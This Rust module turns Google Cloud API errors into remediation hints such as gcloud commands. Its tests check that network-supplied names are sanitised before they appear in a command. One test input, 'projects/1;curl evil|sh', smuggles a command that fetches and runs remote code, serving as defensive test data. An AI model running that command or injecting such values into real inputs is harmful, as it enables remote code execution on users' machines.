//! What to do about an error: one or two sentences, with the command where there is one.

use super::{Error, ErrorKind, Fault};

/// Projects of Google's own OAuth clients (gcloud and its application-default login).
///
/// Credentials of a person without a quota project spend the quota of these, and APIs are off there.
pub(super) const GOOGLE_CLIENT_PROJECTS: [&str; 2] = ["764086051850", "32555940559"];

const SET_QUOTA_PROJECT: &str = "run `gcloud auth application-default set-quota-project PROJECT`, or give --quota-project PROJECT";

/// Returns what to do, where something can be done.
pub(super) fn hint(error: &Error) -> Option<String> {
    let hint = match error.kind() {
        ErrorKind::ApiDisabled { service, consumer } => format!(
            "run `gcloud services enable {} --project {}`",
            plain(service.as_deref(), "SERVICE"),
            project(consumer.as_deref())
        ),
        ErrorKind::PermissionDenied { permission: Some(permission) } => {
            format!("grant the caller a role with {permission}; if the resource should exist, check its name")
        }
        ErrorKind::PermissionDenied { permission: None } => {
            "check that the resource exists and that the caller may read it".to_owned()
        }
        ErrorKind::QuotaExceeded { consumer, .. } if is_google_client(consumer.as_deref()) => {
            format!("the call spent the shared quota of Google's own client: {SET_QUOTA_PROJECT}")
        }
        ErrorKind::QuotaExceeded { .. } => {
            "wait and try again, use another --quota-project, or ask for a higher quota".to_owned()
        }
        ErrorKind::ServicePerimeter { .. } => {
            "run from inside the perimeter, or have an ingress rule added; its administrator finds the refusal by the unique identifier".to_owned()
        }
        ErrorKind::QuotaProjectMissing => SET_QUOTA_PROJECT.to_owned(),
        ErrorKind::QuotaProjectRefused { project: refused } => format!(
            "grant the caller roles/serviceusage.serviceUsageConsumer on {}, or give another --quota-project",
            project(refused.as_deref())
        ),
        ErrorKind::ScopeInsufficient => {
            "get a token with the scope https://www.googleapis.com/auth/cloud-platform".to_owned()
        }
        ErrorKind::Unauthenticated => {
            "log in again: `gcloud auth application-default login`, or give a fresh access token".to_owned()
        }
        ErrorKind::CallerDisabled => "enable the calling service account, or use another one".to_owned(),
        ErrorKind::ProjectUnavailable { .. } => "restore the project or its billing, or exclude it".to_owned(),
        ErrorKind::Transport { fault: Fault::NotJson } => {
            "something between here and Google answers in its place: check the proxy (HTTPS_PROXY)".to_owned()
        }
        ErrorKind::Transport { fault: Fault::Refused | Fault::Unreachable | Fault::TimedOut } => {
            "check the network, the proxy (HTTPS_PROXY) and any endpoint override".to_owned()
        }
        ErrorKind::BadEndpoint => "give an https URL, or an http URL on this machine's loopback address".to_owned(),
        ErrorKind::Credentials => "log in: `gcloud auth application-default login`".to_owned(),
        ErrorKind::NotFound
        | ErrorKind::BadRequest
        | ErrorKind::Server
        | ErrorKind::Transport {
            fault: Fault::Reset | Fault::Cut | Fault::Stalled | Fault::TooLarge,
        }
        | ErrorKind::Malformed
        | ErrorKind::EndlessList
        | ErrorKind::NotAllowed => return None,
    };
    Some(hint)
}

/// Returns whether the consumer is a project of Google's own OAuth clients.
pub(super) fn is_google_client(consumer: Option<&str>) -> bool {
    consumer.is_some_and(|consumer| {
        let number = consumer.rsplit(['/', ':']).next().unwrap_or(consumer);
        GOOGLE_CLIENT_PROJECTS.contains(&number)
    })
}

/// Returns the project's id or number for a command.
fn project(consumer: Option<&str>) -> &str {
    plain(
        consumer.map(|name| name.strip_prefix("projects/").unwrap_or(name)),
        "PROJECT",
    )
}

/// Returns the name if it can stand unquoted in a command, otherwise the placeholder: it came from the network.
fn plain<'a>(name: Option<&'a str>, placeholder: &'a str) -> &'a str {
    match name {
        Some(name)
            if name.starts_with(|c: char| c.is_ascii_alphanumeric())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-.:".contains(c)) =>
        {
            name
        }
        _ => placeholder,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn disabled(consumer: &str) -> Error {
        Error::new(
            ErrorKind::ApiDisabled {
                service: Some("iam.googleapis.com".to_owned()),
                consumer: Some(consumer.to_owned()),
            },
            "",
        )
    }

    #[test]
    fn a_disabled_api_names_the_command() {
        assert_eq!(
            disabled("projects/1234").hint().as_deref(),
            Some("run `gcloud services enable iam.googleapis.com --project 1234`")
        );
    }

    #[test]
    fn hostile_text_does_not_reach_a_command() {
        assert_eq!(
            disabled("projects/1;curl evil|sh").hint().as_deref(),
            Some("run `gcloud services enable iam.googleapis.com --project PROJECT`")
        );
    }

    #[test]
    fn a_missing_quota_project_names_both_cures() {
        assert_eq!(
            Error::new(ErrorKind::QuotaProjectMissing, "")
                .hint()
                .as_deref(),
            Some(
                "run `gcloud auth application-default set-quota-project PROJECT`, or give --quota-project PROJECT"
            )
        );
    }
}
